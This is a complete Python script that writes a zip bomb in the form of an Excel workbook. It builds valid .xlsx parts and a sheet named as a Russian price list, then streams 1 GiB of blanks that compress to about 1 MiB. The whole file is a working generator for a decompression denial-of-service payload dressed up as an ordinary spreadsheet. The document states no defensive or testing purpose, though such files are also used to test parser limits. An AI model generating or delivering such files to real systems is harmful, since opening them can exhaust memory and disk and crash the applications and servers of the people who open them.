#!/usr/bin/env python3
"""Writes a zip bomb in the form of a workbook (.xlsx): a sheet whose "<start>" row is
followed by 1 GiB of blanks, valid XML that deflates to about 1 MiB. Written a piece at a
time, so that making it takes little memory; made where it is needed, never kept.

Usage: make_zip_bomb.py FILE
"""

import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
SHEET = "xl/worksheets/sheet1.xml"

PARTS = {
    "[Content_Types].xml":
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
    "_rels/.rels":
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" '
        f'Type="{TYPES}officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml":
        f'<workbook xmlns="{MAIN}" xmlns:r="{TYPES[:-1]}"><sheets>'
        '<sheet name="Прайс" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels":
        f'<Relationships xmlns="{RELATIONSHIPS}"><Relationship Id="rId1" '
        f'Type="{TYPES}worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def main(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in PARTS.items():
            archive.writestr(name, text)
        with archive.open(SHEET, "w") as sheet:
            sheet.write(f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c t="inlineStr">'
                        '<is><t>&lt;start&gt;</t></is></c></row>'.encode())
            blanks = b" " * (1 << 20)
            for _ in range(1 << 10):
                sheet.write(blanks)
            sheet.write(b"</sheetData></worksheet>")


if __name__ == "__main__":
    main(sys.argv[1])
